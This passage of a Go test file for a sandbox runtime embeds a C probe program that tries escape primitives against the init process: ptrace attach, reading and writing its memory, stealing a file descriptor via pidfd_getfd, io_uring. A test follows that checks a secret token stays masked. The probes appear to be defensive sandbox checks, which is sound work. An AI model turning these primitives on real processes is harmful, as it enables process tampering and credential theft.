		reach("INT80-CONNECT", s2, ret < 0 ? -1 : 0);
		return 0;
	}
	if (!strcmp(mode, "iouring")) {
		char params[120] = {0};
		long r = syscall(425, 8, params);
		printf("IOURING ret=%ld errno=%d\n", r, r < 0 ? errno : 0);
		return 0;
	}
	if (!strcmp(mode, "init")) {
		long r = ptrace(PTRACE_ATTACH, 1, 0, 0);
		printf("PTRACE-ATTACH ret=%ld errno=%d\n", r, r < 0 ? errno : 0);
		r = ptrace(PTRACE_SEIZE, 1, 0, 0);
		printf("PTRACE-SEIZE ret=%ld errno=%d\n", r, r < 0 ? errno : 0);
		char buf[16];
		struct iovec l = {buf, sizeof buf}, rm = {(void *)0x400000, sizeof buf};
		r = syscall(SYS_process_vm_readv, 1, &l, 1, &rm, 1, 0);
		printf("VM-READV ret=%ld errno=%d\n", r, r < 0 ? errno : 0);
		r = syscall(SYS_process_vm_writev, 1, &l, 1, &rm, 1, 0);
		printf("VM-WRITEV ret=%ld errno=%d\n", r, r < 0 ? errno : 0);
		int pfd = syscall(SYS_pidfd_open, 1, 0);
		long g = pfd < 0 ? -1 : syscall(SYS_pidfd_getfd, pfd, 3, 0);
		printf("PIDFD-GETFD pidfd=%d ret=%ld errno=%d\n", pfd, g, g < 0 ? errno : 0);
		return 0;
	}
	if (!strcmp(mode, "nodump")) {
		prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
		int s = socket(AF_UNIX, SOCK_STREAM, 0);
		struct sockaddr_un a;
		addr(&a, argv[2]);
		reach("NODUMP", s, connect(s, (struct sockaddr *)&a, sizeof a));
		return 0;
	}
	return 2;
}
`

// TestReview12MaskWithoutAllowedDomains: a masked variable with no
// network allowed (allowedDomains [], so no default injectHosts) under
// allowPlaintextInject. The settings are valid; srt must run the command
// (a sentinel, nothing to inject) or refuse the settings up front. It
// must not hand the decider a mask it kills itself over.
func TestReview12MaskWithoutAllowedDomains(t *testing.T) {
	forEach(t, func(t *testing.T, w *workspace) {
		s := `{"network":{"allowedDomains":[],"deniedDomains":[]},"filesystem":{"denyRead":[],"allowWrite":["."],"denyWrite":[]},` +
			`"credentials":{"allowPlaintextInject":true,"envVars":[{"name":"MYTOKEN","mode":"mask"}]}}`
		r := w.srtEnv([]string{"MYTOKEN=some-real-value"}, "-s", w.settings(s), "-c", `echo "inside=$MYTOKEN"`)
		if strings.Contains(r.stderr, "decider: stopped") || r.code != 0 && !strings.Contains(r.stderr, "credentials") {
			t.Fatalf("a mask with no inject host kills the decider; srt waits and fails:\n%s", r)
		}
		if r.code == 0 {
			expect(t, r, 0, "inside=fake_value_", "!some-real-value")
		}
	})
}
